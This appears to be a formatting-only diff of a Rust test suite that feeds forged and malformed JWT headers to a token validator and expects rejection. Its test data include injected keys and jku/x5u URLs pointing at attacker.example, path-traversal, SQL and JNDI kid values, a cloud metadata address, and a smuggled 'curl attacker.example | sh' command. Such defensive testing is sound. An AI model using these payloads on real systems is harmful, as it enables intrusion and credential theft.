@@ -41,11 +41,17 @@ fn extensions(attacks: &mut Attacks<'_>) {
         r#""enc":null"#,
     ] {
         let target = attacks.target;
-        attacks.malformed(format!("extension {member}"), target.sign_header(&target.header_with(member)));
+        attacks.malformed(
+            format!("extension {member}"),
+            target.sign_header(&target.header_with(member)),
+        );
     }
     // RFC 7797: an unencoded payload, signed as it is.
     let header = encode(attacks.target.header_with(r#""b64":false,"crit":["b64"]"#));
-    let token = attacks.target.signer.sign_message(&format!("{header}.unencoded"));
+    let token = attacks
+        .target
+        .signer
+        .sign_message(&format!("{header}.unencoded"));
     attacks.malformed("unencoded payload", token);
 }
 
@@ -54,35 +60,59 @@ fn injected_keys(attacks: &mut Attacks<'_>) {
     let target = attacks.target;
     let stranger = Signer::foreign(target.algorithm());
     let mut forge = |name: &str, members: &str| {
-        attacks.forged(format!("a stranger's key in {name}"), stranger.sign(target.header_with(members), CLAIMS));
+        attacks.forged(
+            format!("a stranger's key in {name}"),
+            stranger.sign(target.header_with(members), CLAIMS),
+        );
     };
     let certificate = encode(support::der(fixture!("rsa.cert.pem")));
-    forge("jwk", &format!(r#""jwk":{}"#, jwk_of_pem(fixture!("rsa-other.pem"))));
-    forge("jwk, EC", &format!(r#""jwk":{}"#, jwk_of_pem(fixture!("p256-other.pem"))));
+    forge(
+        "jwk",
+        &format!(r#""jwk":{}"#, jwk_of_pem(fixture!("rsa-other.pem"))),
+    );
+    forge(
+        "jwk, EC",
+        &format!(r#""jwk":{}"#, jwk_of_pem(fixture!("p256-other.pem"))),
+    );
     forge("jwk, a secret", r#""jwk":{"kty":"oct","k":"c2VjcmV0"}"#);
     forge("jku", r#""jku":"https://attacker.example/keys.json""#);
     forge("jku, a file", r#""jku":"file:///etc/passwd""#);
-    forge("jku, a metadata service", r#""jku":"http://169.254.169.254/latest/meta-data""#);
+    forge(
+        "jku, a metadata service",
+        r#""jku":"http://169.254.169.254/latest/meta-data""#,
+    );
     forge("x5u", r#""x5u":"https://attacker.example/chain.pem""#);
     forge("x5c", &format!(r#""x5c":["{certificate}"]"#));
     forge("x5c, empty", r#""x5c":[]"#);
     forge("x5t", r#""x5t":"AAAA","x5t#S256":"AAAA""#);
-    forge("jwk, jku, x5c and x5u", r#""jku":"x","x5u":"x","x5c":[],"jwk":{"kty":"oct","k":"c2VjcmV0"}"#);
-    forge("members of no standard", r#""key":"secret","secret":"secret","publicKey":"x","jwks":{"keys":[]}"#);
+    forge(
+        "jwk, jku, x5c and x5u",
+        r#""jku":"x","x5u":"x","x5c":[],"jwk":{"kty":"oct","k":"c2VjcmV0"}"#,
+    );
+    forge(
+        "members of no standard",
+        r#""key":"secret","secret":"secret","publicKey":"x","jwks":{"keys":[]}"#,
+    );
 }
 
 fn key_ids(attacks: &mut Attacks<'_>) {
     let target = attacks.target;
     // The secret that these paths would give: an empty file.
-    let stranger =
-        if target.is_secret() { Signer::hmac(target.algorithm(), b"") } else { Signer::foreign(target.algorithm()) };
+    let stranger = if target.is_secret() {
+        Signer::hmac(target.algorithm(), b"")
+    } else {
+        Signer::foreign(target.algorithm())
+    };
     for (name, kid) in [
         ("a path", "../../../../../../dev/null".to_owned()),
         ("an absolute path", "/dev/null".to_owned()),
         ("a Windows path", r"..\\..\\..\\windows\\win.ini".to_owned()),
         ("a URL", "https://attacker.example/key".to_owned()),
         ("SQL", "' UNION SELECT 'secret' -- ".to_owned()),
-        ("a command", "key.pem; curl attacker.example | sh".to_owned()),
+        (
+            "a command",
+            "key.pem; curl attacker.example | sh".to_owned(),
+        ),
         ("a template", "${jndi:ldap://attacker.example/a}".to_owned()),
         ("empty", String::new()),
         ("white space", " ".to_owned()),
@@ -93,19 +123,35 @@ fn key_ids(attacks: &mut Attacks<'_>) {
         ("__proto__", "__proto__".to_owned()),
     ] {
         let header = format!(r#"{{"alg":"{}","kid":"{kid}"}}"#, target.alg());
-        attacks.expect(target.foreign_key_id(), format!("kid is {name}"), stranger.sign(header, CLAIMS));
+        attacks.expect(
+            target.foreign_key_id(),
+            format!("kid is {name}"),
+            stranger.sign(header, CLAIMS),
+        );
     }
     for json in ["1", "true", "[]", r#"["a"]"#, "{}", "1e999"] {
         let header = format!(r#"{{"alg":"{}","kid":{json}}}"#, target.alg());
         attacks.malformed(format!("kid is {json}"), target.sign_header(&header));
     }
     let kid = target.kid.unwrap_or("a");
-    let header = format!(r#"{{"alg":"{}","kid":"{kid}","kid":"{kid}"}}"#, target.alg());
+    let header = format!(
+        r#"{{"alg":"{}","kid":"{kid}","kid":"{kid}"}}"#,
+        target.alg()
+    );
     attacks.malformed("kid is there twice, the same", target.sign_header(&header));
-    let header = format!(r#"{{"alg":"{}","kid":"{kid}","k\u0069d":"b"}}"#, target.alg());
-    attacks.malformed("kid is there twice, one of them escaped", target.sign_header(&header));
+    let header = format!(
+        r#"{{"alg":"{}","kid":"{kid}","k\u0069d":"b"}}"#,
+        target.alg()
+    );
+    attacks.malformed(
+        "kid is there twice, one of them escaped",
+        target.sign_header(&header),
+    );
     let header = format!(r#"{{"alg":"{}","kid":null,"kid":"{kid}"}}"#, target.alg());
-    attacks.malformed("kid is there twice, one of them null", target.sign_header(&header));
+    attacks.malformed(
+        "kid is there twice, one of them null",
+        target.sign_header(&header),
+    );
     let header = format!(r#"{{"alg":"{}","kid":null,"kid":null}}"#, target.alg());
     attacks.malformed("kid is null twice", target.sign_header(&header));
     let header = format!(r#"{{"alg":"{}","kid":"\ud800"}}"#, target.alg());
@@ -126,8 +172,14 @@ fn members(attacks: &mut Attacks<'_>) {
         ("typ twice, one of them null", r#""typ":null"#),
         ("an unknown member twice", r#""x":1,"x":2"#),
         ("an unknown member twice, the same", r#""x":1,"x":1"#),
-        ("an unknown member twice, one escaped", r#""x":1,"\u0078":1"#),
-        ("jku twice", r#""jku":"https://a.example","jku":"https://b.example""#),
+        (
+            "an unknown member twice, one escaped",
+            r#""x":1,"\u0078":1"#,
+        ),
+        (
+            "jku twice",
+            r#""jku":"https://a.example","jku":"https://b.example""#,
+        ),
         ("cty is a number", r#""cty":1"#),
         ("jku is a list", r#""jku":["https://a.example"]"#),
         ("jwk is a text", r#""jwk":"key""#),
@@ -153,7 +205,12 @@ fn other_kinds(attacks: &mut Attacks<'_>) {
         Some(kid) => format!(r#"{{"alg":"{}","typ":{kind},"kid":"{kid}"}}"#, target.alg()),
         None => format!(r#"{{"alg":"{}","typ":{kind}}}"#, target.alg()),
     };
-    for kind in ["logout+jwt", "dpop+jwt", "secevent+jwt", "token-introspection+jwt"] {
+    for kind in [
+        "logout+jwt",
+        "dpop+jwt",
+        "secevent+jwt",
+        "token-introspection+jwt",
+    ] {
         for spelling in [
             kind.to_owned(),
             kind.to_uppercase(),
@@ -168,7 +225,11 @@ fn other_kinds(attacks: &mut Attacks<'_>) {
             format!("application\\/{kind}"),
         ] {
             let token = target.sign_header(&with_type(&format!("\"{spelling}\"")));
-            attacks.expect("token_claims_invalid", format!("typ is {spelling:?}"), token);
+            attacks.expect(
+                "token_claims_invalid",
+                format!("typ is {spelling:?}"),
+                token,
+            );
         }
     }
     let forged = Signer::foreign(target.algorithm()).sign(with_type("\"logout+jwt\""), CLAIMS);
@@ -207,16 +268,31 @@ fn not_an_object(attacks: &mut Attacks<'_>) {
         ("a text", format!("{alg:?}")),
         ("a list", format!("[{alg:?}]")),
         ("a list with a header", format!("[{good}]")),
-        ("an object without its end", good.trim_end_matches('}').to_owned()),
+        (
+            "an object without its end",
+            good.trim_end_matches('}').to_owned(),
+        ),
         ("an object and another one", format!("{good}{good}")),
         ("an object and a letter", format!("{good}x")),
         ("an object and a zero byte", format!("{good}\0")),
-        ("an object after a byte order mark", format!("\u{feff}{good}")),
-        ("an object with a comma too many", format!(r#"{{"alg":"{alg}",}}"#)),
-        ("an object with a comment", format!(r#"{{"alg":"{alg}"/* none */}}"#)),
+        (
+            "an object after a byte order mark",
+            format!("\u{feff}{good}"),
+        ),
+        (
+            "an object with a comma too many",
+            format!(r#"{{"alg":"{alg}",}}"#),
+        ),
+        (
+            "an object with a comment",
+            format!(r#"{{"alg":"{alg}"/* none */}}"#),
+        ),
         ("an object in single quotes", format!("{{'alg':'{alg}'}}")),
         ("an object without quotes", format!("{{alg:{alg:?}}}")),
-        ("an object with a number for a name", format!(r#"{{"alg":"{alg}",1:2}}"#)),
+        (
+            "an object with a number for a name",
+            format!(r#"{{"alg":"{alg}",1:2}}"#),
+        ),
         ("an object in base64", encode(&good)),
     ] {
         attacks.malformed(format!("header is {name}"), target.sign_header(&header));
@@ -225,6 +301,10 @@ fn not_an_object(attacks: &mut Attacks<'_>) {
     let position = bytes.len() - 2;
     bytes.splice(position..position, [0xff, 0xfe]);
     attacks.malformed("header is not UTF-8", target.signer.sign(bytes, CLAIMS));
-    let utf16: Vec<u8> = target.header().encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let utf16: Vec<u8> = target
+        .header()
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
     attacks.malformed("header is UTF-16", target.signer.sign(utf16, CLAIMS));
 }
